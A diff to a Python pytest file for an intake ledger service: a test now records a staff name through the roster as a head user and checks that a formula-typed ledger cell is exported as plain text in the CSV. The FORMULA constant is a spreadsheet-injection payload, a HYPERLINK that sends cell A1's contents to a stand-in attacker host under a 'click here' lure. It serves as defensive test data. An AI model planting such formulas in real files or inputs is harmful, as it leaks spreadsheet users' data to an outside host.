@@ -5,8 +5,8 @@ import csv
 import io
 
 import pytest
-from intake_ledger_calls import SUPERVISION, accept
-from intake_requests import STAFF
+from intake_ledger_calls import HEAD, SUPERVISION, accept
+from intake_roster_calls import put_post
 
 FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")'
 
@@ -31,7 +31,9 @@ def test_r_clock_6_a_period_at_the_ends_of_the_calendar_is_a_422_naming_the_rang
 
 
 def test_r_clock_6_a_ledger_cell_typed_as_a_formula_comes_out_as_text_in_the_csv(intake, web_session):
-    case = accept(web_session, first_responder={**STAFF, "name": FORMULA})
+    # a name on the roster (R-FIRST-1: no longer typed into the acceptance), recorded by a head
+    put_post(web_session, backup={"staff_id": "S02", "name": FORMULA, "phone": "0571-1235"})
+    case = accept(web_session, first_responder={"staff_id": "S02"}, headers=HEAD)
     query = "/ledger?from=2026-11-23&to=2026-11-23"
     answer = web_session.get(query + "&format=csv", headers=SUPERVISION)
     assert answer.status_code == 200, answer.text
